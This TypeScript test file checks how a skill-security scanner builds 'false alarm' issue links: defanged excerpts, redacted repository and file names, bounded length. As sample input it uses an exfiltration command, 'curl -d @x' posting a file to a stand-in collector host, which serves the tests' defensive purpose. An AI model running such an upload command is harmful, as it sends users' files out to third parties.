import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { falseAlarmUrl } from "../../src/report/false-alarm.ts";
import { comment } from "../../src/report/markdown.ts";
import { homepage, reportUrlOn } from "../../src/version.ts";
import { hostileText } from "./hostile.ts";
import { finding, head, report, rules, skill } from "./sample.ts";

const options = {
  reportUrl: "https://github.com/octo/skill-scan/issues/new",
  version: "1.2.3",
  blobUrl: `https://github.com/acme-corp/secret-project/blob/${head}`,
};

const urlOf = (snippet: string, path = "skills/payroll/scripts/sync.sh:3"): URL =>
  new URL(falseAlarmUrl(skill("skills/payroll"), finding("exfiltration/file-upload", path, { snippet }), options));

describe("the report of a false alarm", () => {
  test("is filled in with rule, version and a defanged excerpt", () => {
    const url = urlOf("curl -d @x https://collector.example/up");
    expect(`${url.origin}${url.pathname}`).toBe(options.reportUrl);
    expect(Object.fromEntries(url.searchParams)).toEqual({
      template: "false-alarm.yml",
      title: "False alarm: exfiltration/file-upload",
      rule: "exfiltration/file-upload",
      version: "1.2.3",
      excerpt: "curl -d @x hxxps://collector[.]example/up",
    });
  });

  test("names neither repository nor skill nor file", () => {
    const { searchParams } = urlOf(
      "git clone https://github.com/Acme-Corp/secret-project; sh skills/payroll/scripts/sync.sh; sh sync.sh payroll",
    );
    expect(searchParams.get("excerpt")).toBe("git clone hxxps://github[.]com/…; sh …; sh … …");
  });

  test("has no excerpt where there is none", () => {
    expect(urlOf(" ").searchParams.has("excerpt")).toBe(false);
  });

  test("is bounded, one address, and no markup, whatever the text", () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const { href } = urlOf(text.repeat(20), `${text}:1`);
        expect(href.length).toBeLessThanOrEqual(700);
        expect(href).toMatch(/^https:\/\/github\.com\/octo\/skill-scan\/issues\/new\?[\w.~%&=-]+$/);
      }),
      { numRuns: 300, seed: 20261122 },
    );
  });

  test("is one link at the end of the details, and none where there is no address for it", () => {
    const from = report({ skills: [skill("a", { findings: [finding("exfiltration/file-upload", "a/x:1")] })] });
    expect(comment(from, { rules, marker: "", reportUrl: options.reportUrl })).toMatch(
      /Rule `exfiltration\/file-upload` · \[False alarm\?\]\(https:[^ ()]+\)\n\n<\/details>/,
    );
    expect(comment(from, { rules, marker: "" })).not.toContain("False alarm");
  });
});

test("only readers on the project's own server get the link", () => {
  expect(reportUrlOn("https://github.com")).toBe(`${homepage}/issues/new`);
  expect(reportUrlOn("https://github.com/")).toBe(`${homepage}/issues/new`);
  expect(reportUrlOn("https://ghe.example.com")).toBeUndefined();
});
